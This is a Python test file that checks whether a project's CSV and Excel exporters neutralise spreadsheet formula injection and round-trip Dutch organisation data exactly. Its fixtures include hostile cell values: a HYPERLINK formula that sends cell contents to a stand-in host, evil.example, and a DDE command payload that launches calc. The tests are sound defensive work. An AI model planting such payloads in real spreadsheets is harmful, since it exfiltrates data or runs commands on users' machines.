"""No CSV or Excel cell the atlas writes runs as a formula, and the import reads every cell back as typed."""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from graph.intake.cells import TRIGGERS, csv_bytes, excel_bytes, neutralise, restore
from graph.intake.exporter import export, template_tables
from graph.intake.importer import import_path
from graph.intake.setup import initialise
from graph.model.viewer import COMMAND_LINE
from graph.settings import REPO_ROOT
from graph.store.atlas import Atlas

from .conftest import FEATURE_BACKENDS, TINY, run_cli

pytestmark = pytest.mark.backends(*FEATURE_BACKENDS)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
HOSTILE = {
    ("organisations", "lib-a", "name"): FORMULA,
    ("organisations", "lib-b", "name"): "@SUM(1+1)*cmd|' /C calc'!A0",
    ("organisations", "care-x", "name"): "'=al met apostrof",
    ("sites", "a-woerden", "town"): "'s-Hertogenbosch",
    ("sites", "a-woerden", "address"): "-2+3 Kerkplein",
    ("collaborations", "c1", "contact_phone"): "+31 6 1234 5678",
    ("collaborations", "c1", "description"): "- eerste punt\n- tweede punt",
    ("collaborations", "c1", "contact_role"): "''dubbel",
}


def _hostile_copy(target: Path) -> Path:
    shutil.copytree(TINY, target)
    for table in ("organisations", "sites", "collaborations"):
        path = target / f"{table}.csv"
        with open(path, encoding="utf-8", newline="") as handle:
            rows = list(csv.DictReader(handle))
        for row in rows:
            for (name, row_id, column), value in HOSTILE.items():
                if name == table and row["id"] == row_id:
                    row[column] = neutralise(value)  # the file as the atlas itself would write it
        with open(path, "w", encoding="utf-8", newline="") as handle:
            writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
            writer.writeheader()
            writer.writerows(rows)
    return target


def _stored(atlas: Atlas) -> dict[tuple[str, str, str], str]:
    tables = template_tables(atlas, include_private=True, viewer=COMMAND_LINE)
    return {key: tables[key[0]].set_index("id").at[key[1], key[2]] for key in HOSTILE}


@given(st.text())
def test_neutralised_cells_never_start_a_formula_and_read_back_exactly(text: str) -> None:
    cell = neutralise(text)
    assert not cell.startswith(TRIGGERS)
    assert restore(cell) == text


def test_apostrophe_names_and_free_text_keep_their_form() -> None:
    assert neutralise("'s-Hertogenbosch") == "'s-Hertogenbosch" == restore("'s-Hertogenbosch")
    assert neutralise("+31 6 1234 5678") == "'+31 6 1234 5678"
    assert neutralise("'=x") == "''=x" and restore("''=x") == "'=x"
    assert restore("+31 6 1234 5678") == "+31 6 1234 5678"  # typed by hand without the apostrophe: kept


def test_formula_injection_in_csv_export_is_neutralised_and_round_trips(reference_atlas: Atlas, tmp_path: Path) -> None:
    assert import_path(reference_atlas, _hostile_copy(tmp_path / "input")).ok
    assert _stored(reference_atlas) == HOSTILE  # as typed, apostrophes of the file's escaping removed
    first = tmp_path / "first"
    export(reference_atlas, "csv", first, include_private=True, viewer=COMMAND_LINE)
    for name in ("organisations", "sites", "collaborations"):
        with open(first / f"{name}.csv", encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not [cell for cell in cells if cell.startswith(TRIGGERS)], name
    text = (first / "organisations.csv").read_text(encoding="utf-8")
    assert "'" + FORMULA.replace('"', '""') in text and "''=al met apostrof" in text
    assert "'s-Hertogenbosch" in (first / "sites.csv").read_text(encoding="utf-8")

    fresh = Atlas.open(reference_atlas.settings.with_(store=str(tmp_path / "again")))
    initialise(fresh, seed=first)
    assert _stored(fresh) == HOSTILE
    second = tmp_path / "second"
    export(fresh, "csv", second, include_private=True, viewer=COMMAND_LINE)
    for name in ("organisations", "sites", "collaborations"):
        assert (first / f"{name}.csv").read_bytes() == (second / f"{name}.csv").read_bytes(), name


def test_formula_injection_in_xlsx_export_gives_text_cells_only(reference_atlas: Atlas, tmp_path: Path) -> None:
    assert import_path(reference_atlas, _hostile_copy(tmp_path / "input")).ok
    path = tmp_path / "atlas.xlsx"
    export(reference_atlas, "xlsx", path, include_private=True, viewer=COMMAND_LINE)
    workbook = load_workbook(path)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type == "s" for cell in cells)  # the template is text: never a formula
    assert not [cell.value for cell in cells if str(cell.value).startswith(TRIGGERS)]
    fresh = Atlas.open(reference_atlas.settings.with_(store=str(tmp_path / "again")))
    initialise(fresh, seed=path)
    assert _stored(fresh) == HOSTILE


def test_formula_injection_in_downloads_is_neutralised() -> None:
    frame = pd.DataFrame(
        {"name": [FORMULA, "-1+2", "'s-Hertogenbosch", "=1+2"], "partners": [1, -2, 3, 4], "share": [0.5, -0.25, 1, 0]}
    )
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"))))
    assert [row[0] for row in rows[1:]] == ["'" + FORMULA, "'-1+2", "'s-Hertogenbosch", "'=1+2"]
    assert [row[1] for row in rows[1:]] == ["1", "-2", "3", "4"]  # numbers stay numbers
    workbook = load_workbook(io.BytesIO(excel_bytes({"download": frame})))
    sheet = workbook.active
    assert sheet is not None
    values = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert [row[0] for row in values] == ["'" + FORMULA, "'-1+2", "'s-Hertogenbosch", "'=1+2"]
    assert [row[1] for row in values] == [1, -2, 3, 4] and values[1][2] == -0.25
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_formula_injection_in_cli_question_csv_is_neutralised(reference_atlas: Atlas, tmp_path: Path) -> None:
    if reference_atlas.settings.store.startswith("http"):
        pytest.skip("the command line's CSV writer is the same for every store; run once")
    assert import_path(reference_atlas, _hostile_copy(tmp_path / "input")).ok
    result = run_cli("query", "organisations-by-partners", "--format", "csv", store=reference_atlas.settings.store)
    assert result.returncode == 0, result.stderr
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert "'" + FORMULA in cells and not [cell for cell in cells if cell.startswith(TRIGGERS)]


def test_every_csv_and_excel_writer_goes_through_the_cells_module() -> None:
    writers = re.compile(r"\.to_csv\(|\.to_excel\(|csv\.writer\(|DictWriter\(|ExcelWriter\(|Workbook\(")
    offenders = [
        f"{path.relative_to(REPO_ROOT)}:{number}"
        for folder in ("graph", "ui", "bench")
        for path in (REPO_ROOT / folder).rglob("*.py")
        if path.name != "cells.py"
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if writers.search(line)
    ]
    assert (REPO_ROOT / "app.py").read_text(encoding="utf-8").count("download_button") == 0
    assert offenders == []


def test_an_excel_sheet_is_wide_enough_for_its_headings_and_keeps_long_text_in_bounds() -> None:
    frame = pd.DataFrame(
        {"Gemeente": ["Venlo"], "Met bibliotheek én zorg": [True], "Inwoners": [103_789], "Verhaal": ["x" * 500]}
    )
    sheet = load_workbook(io.BytesIO(excel_bytes({"blad": frame}, {"Inwoners": "#,##0"}))).active
    assert sheet is not None
    widths = {letter: dimension.width for letter, dimension in sheet.column_dimensions.items()}
    assert widths["B"] >= len("Met bibliotheek én zorg") and widths["D"] == 60
    assert sheet["C2"].value == 103_789 and sheet["C2"].number_format == "#,##0"


def test_an_excel_sheet_keeps_its_headings_in_view_and_filters_every_column() -> None:
    """Regression: a long list opened in Excel lost its headings when scrolled, and had no filters."""
    frame = pd.DataFrame({"Gemeente": ["Venlo", "Tegelen", "Venray"], "Inwoners": [103_789, 20_000, 45_000]})
    sheet = load_workbook(io.BytesIO(excel_bytes({"blad": frame}))).active
    assert sheet is not None
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:B4"
